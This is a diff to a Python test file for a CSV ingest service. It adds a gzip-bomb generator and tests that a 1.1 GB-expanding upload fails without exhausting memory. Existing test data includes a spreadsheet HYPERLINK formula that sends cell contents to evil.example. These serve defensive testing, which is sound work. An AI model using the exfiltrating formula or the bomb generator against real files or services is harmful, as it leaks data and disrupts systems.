@@ -4,7 +4,17 @@ reaches ops as a live spreadsheet formula, and its key never chooses where our o
 from __future__ import annotations
 
 import csv
+import gzip
 import io
+import json
+import os
+import re
+import struct
+import subprocess
+import sys
+import zlib
+from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -23,6 +33,7 @@ from tests.integration.test_ingest_files import (  # the shared harness
     sale,
 )
 
+ROOT = Path(__file__).resolve().parents[2]
 AT = "2026-11-21T18:03:11+08:00"
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -105,3 +116,97 @@ def test_a_clean_file_has_an_unchanged_rejects_header(ingest: Harness) -> None: 
     ingest.run(csv_text([HEADER.split(","), sale("r1", "1.00").split(",")]))
     body = aws.client("s3").get_object(Bucket=BUCKET, Key="rejects/s1/2026-11-21.csv")["Body"].read()
     assert body == ("row,reason,message," + HEADER + "\r\n").encode()
+
+
+# --- a gzip bomb -----------------------------------------------------------------------------------
+
+MIB = 1024 * 1024
+CHILD_FILE, CHILD_OUT = "INGEST_CHILD_FILE", "INGEST_CHILD_OUT"
+
+
+def gzip_bomb(path: Path, prefix: bytes, mebibytes: int, byte: bytes = b"A") -> None:
+    """A gzip file of `prefix`, then `mebibytes` MiB of one byte repeated with no line end: one
+    deflate stream, written block by block. After a full flush the compressor is back in the same
+    state, so every further MiB compresses to the same bytes: they are written again, not
+    compressed again (1 GiB takes a second, and memory stays at one block)."""
+    block = byte * MIB
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)  # raw deflate: we write the gzip frame
+    crc, size = zlib.crc32(prefix), len(prefix)
+    with path.open("wb") as out:
+        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")  # magic, deflate, no flags or mtime
+        out.write(deflate.compress(prefix) + deflate.flush(zlib.Z_FULL_FLUSH))
+        compressed = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
+        for _ in range(mebibytes):
+            out.write(compressed)
+            crc, size = zlib.crc32(block, crc), size + MIB
+        out.write(deflate.flush())
+        out.write(struct.pack("<II", crc, size & 0xFFFFFFFF))
+
+
+def test_the_bomb_helper_writes_a_valid_gzip_file(tmp_path: Path) -> None:
+    path = tmp_path / "small.csv.gz"
+    gzip_bomb(path, b"header\n", 3, b"x")
+    assert gzip.decompress(path.read_bytes()) == b"header\n" + b"x" * 3 * MIB
+
+
+def _rss_mb(field: str) -> float:
+    status = Path("/proc/self/status").read_text()
+    return int(re.search(rf"^{field}:\s+(\d+) kB", status, re.M).group(1)) / 1024  # type: ignore[union-attr]
+
+
+def _reset_peak() -> float:
+    """Reset the peak RSS to the current RSS where Linux allows it; returns the baseline to compare
+    the peak with (the peak so far when it cannot be reset)."""
+    try:
+        Path("/proc/self/clear_refs").write_text("5")
+    except OSError:
+        return _rss_mb("VmHWM")
+    return _rss_mb("VmRSS")
+
+
+@pytest.mark.skipif(CHILD_FILE not in os.environ, reason="run in a child process by the bomb tests below")
+def test_ingest_one_file_in_this_process(ingest: Harness) -> None:  # noqa: F811
+    """The child: ingests the file through the queue handler, writes the report and its memory."""
+    enrol("m1")
+    ingest.upload(Path(os.environ[CHILD_FILE]).read_bytes(), "2026-11-21.csv.gz")
+    before = _reset_peak()
+    ingest.deliver()
+    peak = _rss_mb("VmHWM")
+    report = ingest.report("2026-11-21.csv.gz")
+    result = {"report": report, "before_mb": before, "peak_mb": peak, "after_mb": _rss_mb("VmRSS")}
+    result["available"] = available("m1")
+    Path(os.environ[CHILD_OUT]).write_text(json.dumps(result))
+
+
+def ingest_in_child(path: Path, tmp_path: Path) -> dict[str, Any]:
+    out = tmp_path / "child.json"
+    env = {**os.environ, CHILD_FILE: str(path), CHILD_OUT: str(out)}
+    test = f"{Path(__file__).relative_to(ROOT)}::test_ingest_one_file_in_this_process"
+    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-p", "no:randomly", test]
+    done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    result: dict[str, Any] = json.loads(out.read_text())
+    return result
+
+
+@pytest.mark.parametrize(
+    "prefix",
+    [b"", (HEADER + "\n" + sale("r1", "10.00", "m1") + "\n").encode()],
+    ids=["one-endless-line", "a-header-a-row-then-an-endless-line"],
+)
+def test_a_gzip_bomb_fails_the_file_without_taking_the_memory(tmp_path: Path, prefix: bytes) -> None:
+    # Given: 1.1 MB of gzip that expands to 1.1 GB (more than the 1 GiB limit), mostly one line
+    bomb = tmp_path / "bomb.csv.gz"
+    gzip_bomb(bomb, prefix, 1100)
+    assert bomb.stat().st_size < 2 * MIB
+
+    # When: it is uploaded and ingested, in a process of its own
+    result = ingest_in_child(bomb, tmp_path)
+
+    # Then: it fails as too large, applies nothing, and the process's peak memory stays close to
+    # what it was before the file (the bytes are never built into one line)
+    report = result["report"]
+    assert (report["status"], report["reason"]) == ("failed", "too_large"), report
+    assert counts(report) == (0, 0, 0, 0)
+    assert result["available"] == WELCOME
+    assert result["peak_mb"] - result["before_mb"] < 100, result
